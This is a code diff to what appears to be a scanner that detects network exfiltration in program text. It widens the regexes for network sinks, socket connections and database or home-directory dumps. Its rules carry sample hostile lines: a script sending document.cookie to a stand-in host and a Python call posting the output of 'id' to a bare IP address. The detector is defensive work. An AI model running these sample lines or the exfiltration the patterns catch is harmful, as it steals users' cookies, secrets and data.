@@ -16,16 +16,18 @@ const secretFileSent = ruleOf(
 );
 const cookieSent = ruleOf('programs.cookie-sent', 'network_exfiltration', 'high', 'a page’s script that sends cookies or stored tokens to another host', write('public/a.js', "fetch('https://c.example.net/?c=' + document.cookie)\n"), write('public/a.js', "const theme = document.cookie.match(/theme=(\\w+)/);\n"), `${T}T1539`);
 const outputSent = ruleOf(
-  'programs.output-sent', 'network_exfiltration', 'high', 'program text that sends a local file or a command’s output to a bare address or a place where anybody may leave things', python("import requests, subprocess\nrequests.post('http://203.0.113.9/x', data=subprocess.check_output('id'))"),
+  'programs.output-sent', 'network_exfiltration', 'high', 'program text that sends a database, or a local file or a command’s output to a bare address or a place where anybody may leave things', python("import requests, subprocess\nrequests.post('http://203.0.113.9/x', data=subprocess.check_output('id'))"),
   python("import requests\nrequests.post('http://127.0.0.1:8080/x', data=open('order.json').read())"), `${T}T1041`,
 );
 
-const SINK = /requests\.(?:post|put|get|request|patch)|urlopen|urlretrieve|urllib\d?\.request|http\.client|httpx\.|aiohttp|\bfetch\s*\(|axios|xmlhttprequest|sendbeacon|new image|\.src\s*=|\.sendall?\s*\(|smtplib|sendmail|curl_exec|curl_setopt|net::http|httparty|faraday|open-uri|lwp|http::tiny|websocket|ftplib|storbinary|paramiko|upload_file|put_object|superagent|\bgot\s*[.(]|needle|https?\.request|https?\.get|httpclient|webclient|http\.post|http\.newrequest|reqwest|ureq|resttemplate|okhttp|location\.(?:href|replace|assign)|window\.open|dns\.(?:resolve|lookup)|gethostbyname|os\.system|subprocess|child_process|exec\w*\(|mail\(/i;
-const SINK_LITERALS = ['requests.', 'urlopen', 'urllib', 'http.client', 'httpx', 'aiohttp', 'fetch(', 'axios', 'xmlhttprequest', 'sendbeacon', 'new image', '.src', '.sendall', '.send(', 'smtplib', 'curl_exec', 'net::http', 'httparty', 'lwp', 'http::tiny', 'websocket', 'ftplib', 'upload_file', 'superagent', 'got(', 'got.post', 'https.request', 'http.request', 'https.get(', 'http.get(', 'httpclient', 'http.post', 'http.newrequest', 'reqwest', 'okhttp', 'location.', 'window.open', 'gethostbyname', 'dns.'];
+const SINK = /file_get_contents\s*\(\s*["']https?:|\bsmtp(?:_ssl)?\s*\(|\bftp(?:_tls)?\s*\(|requests\.(?:post|put|get|request|patch)|urlopen|urlretrieve|urllib\d?\.request|http\.client|httpx\.|aiohttp|\bfetch\s*\(|axios|xmlhttprequest|sendbeacon|new image|\.src\s*=|\.sendall?\s*\(|smtplib|sendmail|curl_exec|curl_setopt|net::http|httparty|faraday|open-uri|lwp|http::tiny|websocket|ftplib|storbinary|paramiko|upload_file|put_object|superagent|\bgot\s*[.(]|needle|https?\.request|https?\.get|httpclient|webclient|http\.post|http\.newrequest|reqwest|ureq|resttemplate|okhttp|location\.(?:href|replace|assign)|window\.open|dns\.(?:resolve|lookup)|gethostbyname|os\.system|subprocess|child_process|exec\w*\(|mail\(/i;
+const SINK_LITERALS = ['file_get_contents(', 'smtp(', 'smtp_ssl(', 'ftp(','requests.', 'urlopen', 'urllib', 'http.client', 'httpx', 'aiohttp', 'fetch(', 'axios', 'xmlhttprequest', 'sendbeacon', 'new image', '.src', '.sendall', '.send(', 'smtplib', 'curl_exec', 'net::http', 'httparty', 'lwp', 'http::tiny', 'websocket', 'ftplib', 'upload_file', 'superagent', 'got(', 'got.post', 'https.request', 'http.request', 'https.get(', 'http.get(', 'httpclient', 'http.post', 'http.newrequest', 'reqwest', 'okhttp', 'location.', 'window.open', 'gethostbyname', 'dns.'];
 
 const ENVIRONMENT = /(?:\bdict|\bstr|\brepr|\blist|dumps|b64encode|urlencode|pformat|json|data|params|encode|stringify|tojson|inspect|\*\*)\s*(?:=|\()\s*(?:\{\s*\*\*|dict\(|str\()?\s*(?:os\.environ\b(?!\s*(?:\[|\.get|\.setdefault))|process\.env\b(?!\s*[.[]))|os\.environ\.(?:items|copy|values)\(\)|\bENV\.(?:to_h|to_hash|inspect|to_a|map)|json_encode\(\s*(?:\$_ENV|\$_SERVER|getenv\(\))|http_build_query\(\s*(?:\$_ENV|\$_SERVER)|System\.getenv\(\s*\)|os\.Environ\(\)|env::vars\(\)|Deno\.env\.toObject|Object\.entries\(process\.env\)|JSON\.stringify\(\s*\{[^{}]{0,80}(?:env\s*:\s*|\.\.\.)process\.env\b(?!\s*[.[])|%ENV\b/;
 const COOKIES = /document\.cookie(?!\s*=[^=])|JSON\.stringify\(\s*(?:localStorage|sessionStorage)|(?:local|session)Storage\.getItem\(\s*["'][^"']{0,40}(?:token|jwt|auth|session|secret|key)/i;
 const OUTPUT = /\bopen\s*\(|read_(?:text|bytes)\(|readfile(?:sync)?\s*\(|file_get_contents\s*\(|check_output|popen\s*\(|subprocess\.|execsync|shell_exec|getoutput|`[a-z]|File\.read|IO\.popen|os\.walk|glob\.|readdir/i;
+/** A whole database, a home or the accounts, taken by a command of the program. */
+const DUMP = /["'`](?:pg_dump(?:all)?|mysqldump|mariadb-dump|mongodump|ldapsearch)\b|\b(?:make_archive|tarfile\.open|ZipFile)\s*\([^)\n]{0,120}["'](?:\/home|\/etc|\/root|~)\/?["']/;
 const FILE_LITERAL = /["'`]((?:~|\/|[A-Za-z]:\\|\.|%)[^"'`\n]{2,200})["'`]/g;
 const REACH = 700;
 
@@ -52,8 +54,7 @@ type Found = Readonly<{ rule: Rule; at: number; length: number }>;
 
 function judge(window: string): Found | undefined {
   const hosts = [...window.matchAll(/(?:https?|wss?|ftp):\/\/[^\s"'`<>)\\]{1,253}|["'`]\/\/[a-z0-9.-]{3,100}/gi)].slice(0, 8).map(([url]) => destinationOf(hostIn(url.replace(/^["'`]\/\//, ''))));
-  const sockets = /\bconnect\(\s*\(?\s*["']([^"']{1,253})["']/.exec(window)?.[1];
-  if (sockets !== undefined) hosts.push(destinationOf(sockets));
+  for (const [, host = ''] of window.matchAll(/\b(?:connect(?:_ex)?|SMTP(?:_SSL)?|FTP(?:_TLS)?|HTTPS?Connection|Transport|create_connection|TCPSocket\.(?:new|open)|fsockopen|Dial(?:Timeout)?)\s*\(\s*[([]?\s*(?:["']tcp["'],\s*)?(?:host(?:name)?\s*=\s*)?["'](?:\w{2,8}:\/\/)?([a-z0-9.-]{1,253})/gi)) if (hosts.length < 16) hosts.push(destinationOf(host));
   if (hosts.length === 0 || !hosts.some(isForeign)) return undefined;
   const environment = ENVIRONMENT.exec(window);
   if (environment) return { rule: environmentSent, at: environment.index, length: environment[0].length };
@@ -62,6 +63,8 @@ function judge(window: string): Found | undefined {
   const file = [...window.matchAll(FILE_LITERAL)].slice(0, 16).find(([, path = '']) => isSecret(path));
   if (file) return { rule: secretFileSent, at: file.index, length: file[0].length };
   const output = OUTPUT.exec(window);
+  const dump = DUMP.exec(window);
+  if (dump) return { rule: outputSent, at: dump.index, length: dump[0].length };
   return output && hosts.some(isSuspect) && /(?:post|put|data|files|body|send|upload|\?[a-z]=)/i.test(window) ? { rule: outputSent, at: output.index, length: output[0].length } : undefined;
 }
 
